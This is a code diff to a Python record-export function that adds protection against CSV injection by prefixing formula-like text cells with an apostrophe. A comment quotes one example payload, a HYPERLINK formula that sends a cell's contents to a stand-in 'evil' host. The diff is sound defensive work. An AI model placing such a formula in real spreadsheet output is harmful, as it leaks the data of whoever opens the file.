@@ -84,14 +84,24 @@ def write_records(records: Iterable[dict[str, Any]], fmt: ExportFormat, dest: Pa
     return count
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection: a title
+# such as '=HYPERLINK("http://evil/?"&A1)' would run when an editor opens the export). OWASP's
+# advice: prefix such text cells with an apostrophe, which spreadsheets show as text. Numbers
+# stay numbers (a negative count is not text).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
 def flat_value(value: Any) -> Any:
-    """A record value as one CSV cell: lists become '; '-joined text, dicts their compact JSON."""
+    """A record value as one CSV cell: lists become '; '-joined text, dicts their compact JSON,
+    and text a spreadsheet would run as a formula is prefixed with an apostrophe."""
     if isinstance(value, list):
-        return "; ".join(
+        value = "; ".join(
             v.get("descriptor") or v.get("name") or json.dumps(v) if isinstance(v, dict) else str(v) for v in value
         )
-    if isinstance(value, dict):
-        return json.dumps(value, ensure_ascii=False)
+    elif isinstance(value, dict):
+        value = json.dumps(value, ensure_ascii=False)
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
     return value
 
 
